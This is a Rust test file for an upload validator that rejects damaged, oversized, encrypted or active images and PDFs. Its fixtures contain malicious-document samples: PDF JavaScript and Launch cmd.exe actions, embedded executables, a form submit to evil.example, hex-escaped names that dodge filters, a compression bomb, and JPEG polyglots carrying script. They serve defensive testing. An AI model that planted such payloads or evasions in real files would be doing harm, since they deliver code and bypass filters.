//! What is kept as it came: whole, and nothing else at the same time.
#![expect(
    clippy::expect_used,
    reason = "helpers of tests: a fixture without its parts is a broken test"
)]

use crate::support::{fixture, refusal, values};
use mn_domain::FileRefusal;

/// The document with one more object.
fn document_with(object: &str) -> Vec<u8> {
    let text = fixture("document.pdf");
    let at = text
        .windows(5)
        .position(|window| window == b"\nxref")
        .expect("a table");
    let (before, after) = text.split_at(at + 1);
    [before, format!("9 0 obj\n{object}\nendobj\n").as_bytes(), after].concat()
}

/// The document with an object stream that holds something.
fn packed(inside: &str) -> Vec<u8> {
    let body = miniz_oxide::deflate::compress_to_vec_zlib(inside.as_bytes(), 6);
    let text = document_with("<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\nHERE\nendstream");
    let at = text
        .windows(4)
        .position(|window| window == b"HERE")
        .expect("the mark");
    let (before, after) = text.split_at(at);
    [before, &body, after.get(4..).unwrap_or_default()].concat()
}

#[test]
fn a_picture_tells_its_size() {
    assert_eq!(values("picture.png", "fil.bredd"), ["12"]);
    assert_eq!(values("picture.png", "fil.hojd"), ["8"]);
    assert_eq!(values("photo.jpg", "fil.bredd"), ["24"]);
    assert_eq!(values("document.pdf", "fil.kilobyte"), ["1"]);
}

#[test]
fn a_picture_or_a_document_that_ends_too_early_is_damaged() {
    for name in ["picture.png", "photo.jpg", "document.pdf"] {
        let whole = fixture(name);
        let cut = whole.get(..whole.len() - 9).unwrap_or_default();
        assert_eq!(refusal(cut), Some(FileRefusal::Damaged), "{name}");
    }
    let mut large = fixture("picture.png");
    // The width of its head.
    large.splice(16..24, [0, 1, 0, 0, 0, 1, 0, 0]);
    assert_eq!(refusal(&large), Some(FileRefusal::TooLarge));
}

#[test]
fn a_camera_may_put_more_behind_the_end_of_a_photograph() {
    let photo = [fixture("photo.jpg"), b"SEFH\0\0more of the camera's own".to_vec()].concat();
    assert_eq!(refusal(photo), None);
    let picture = [fixture("picture.png"), b"more".to_vec()].concat();
    assert_eq!(refusal(picture), Some(FileRefusal::Damaged));
}

#[test]
fn a_document_with_a_password_is_refused() {
    let text = String::from_utf8_lossy(&fixture("document.pdf")).into_owned();
    for name in ["/Encrypt", "/Encr#79pt", "/#45ncrypt"] {
        let locked = text.replace("/Root", &format!("{name} 9 0 R/Root"));
        assert_eq!(refusal(locked), Some(FileRefusal::Encrypted), "{name}");
    }
    assert_eq!(refusal(packed("1 0 <</Encrypted true>>")), None);
}

#[test]
fn a_document_that_does_or_carries_something_is_refused() {
    for object in [
        "<</S/JavaScript/JS(app.alert(1))>>",
        "<</S /#4aavaScript /JS (x)>>",
        "<</S/Launch/F(cmd.exe)>>",
        "<</Type/EmbeddedFile>>stream\nMZ\nendstream",
        "<</Names<</EmbeddedFiles 7 0 R>>>>",
        "<</Subtype/RichMedia>>",
        "<</S/SubmitForm/F(https://evil.example)>>",
    ] {
        assert_eq!(
            refusal(document_with(object)),
            Some(FileRefusal::Active),
            "{object}"
        );
        assert_eq!(
            refusal(packed(&format!("9 0 {object}"))),
            Some(FileRefusal::Active),
            "packed: {object}"
        );
    }
    assert_eq!(
        refusal(document_with("(JavaScript, Launch and Encrypt are words)")),
        None
    );
    assert_eq!(refusal(packed("9 0 (JavaScript is a word)")), None);
}

#[test]
fn an_object_stream_that_cannot_be_looked_into_is_refused() {
    let odd = document_with("<</Type/ObjStm/Filter/LZWDecode>>stream\nabc\nendstream");
    assert_eq!(refusal(odd), Some(FileRefusal::Active));
    let broken = document_with("<</Type/ObjStm/Filter/FlateDecode>>stream\nabc\nendstream");
    assert_eq!(refusal(broken), Some(FileRefusal::Damaged));
    let plain = document_with("<</Type/ObjStm>>stream\n1 0 <<>>\nendstream");
    assert_eq!(refusal(plain), None);
    // Forty megabytes of nothing pack into forty kilobytes.
    assert_eq!(
        refusal(packed(&" ".repeat(40 << 20))),
        Some(FileRefusal::TooLarge)
    );
}

#[test]
fn what_is_two_things_at_once_is_refused() {
    let archive = b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x2e\0\0\0\x20\0\0\0\0\0";
    let both = [fixture("photo.jpg").as_slice(), archive].concat();
    assert_eq!(refusal(both), Some(FileRefusal::Active));
    let both = document_with(&format!("({})", String::from_utf8_lossy(archive)));
    assert_eq!(refusal(both), Some(FileRefusal::Active));
    let behind = [fixture("document.pdf").as_slice(), archive].concat();
    assert_eq!(refusal(behind), Some(FileRefusal::Damaged));
    // A comment inside of a photograph that begins a document, or a page.
    let photo = fixture("photo.jpg");
    let (head, rest) = photo.split_at(2);
    for inside in ["%PDF-1.4 <<>>", "<SCRIPT>alert(1)</SCRIPT>", "<html>"] {
        let length = u8::try_from(inside.len() + 2).expect("short");
        let both = [head, &[0xff, 0xfe, 0, length], inside.as_bytes(), rest].concat();
        assert_eq!(refusal(both), Some(FileRefusal::Active), "{inside}");
    }
}
